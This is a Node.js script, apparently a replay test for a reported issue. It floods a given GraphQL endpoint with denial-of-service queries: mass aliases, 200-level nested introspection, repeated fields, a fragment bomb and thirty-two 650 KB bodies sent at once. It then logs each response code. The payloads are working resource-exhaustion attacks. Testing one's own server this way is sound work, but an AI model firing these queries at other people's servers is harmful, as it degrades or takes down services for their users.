// The attack of issue 13, replayed from a second process with no credentials:
//   node attack-client.mjs <graphql url>
// sends at once a query of 10,000 aliases, a 200-level nested introspection query, a document of
// 5,000 copies of one field, a fragment bomb (10^6 fields from 80 tokens), and 32 alias-heavy bodies of ~650 KB each; prints one JSON line per
// request: { name, status, code, ms } (or { name, error, ms } when the connection failed).
const url = process.argv[2];

const aliases = (n, field) => '{ ' + Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ') + ' }';
// Each fragment spreads the one below `width` times: `width ** levels` fields from a few hundred tokens.
function fragmentBomb(levels, width) {
  let doc = 'query { ...F' + levels + ' }\nfragment F0 on Query { health version { node } }\n';
  for (let l = 1; l <= levels; l++) doc += `fragment F${l} on Query { ${`...F${l - 1} `.repeat(width)}}\n`;
  return doc;
}
let nested = 'name';
for (let i = 0; i < 200; i++) nested = `ofType { ${nested} }`;

const attacks = [
  { name: '10k-aliases', query: aliases(10_000, 'health') },
  { name: 'nested-introspection-200', query: `{ __schema { types { fields { type { ${nested} } } } } }` },
  { name: 'same-field-5000', query: '{ ' + 'health '.repeat(5000) + '}' },
  { name: 'fragment-bomb', query: fragmentBomb(6, 10) },
];
// ~650 KB each: 26,400 aliases of a nested field.
const big = aliases(26_400, 'version { node }');
for (let i = 0; i < 32; i++) attacks.push({ name: `650KB-${i}`, query: big });

async function send({ name, query }) {
  const t0 = performance.now();
  try {
    const res = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query }) });
    const body = await res.json();
    return { name, bytes: query.length, status: res.status, code: body.errors?.[0]?.extensions?.code ?? null, ms: performance.now() - t0 };
  } catch (err) {
    return { name, error: String(err.cause ?? err), ms: performance.now() - t0 };
  }
}

const results = await Promise.all(attacks.map(send));
for (const r of results) process.stdout.write(JSON.stringify(r) + '\n');
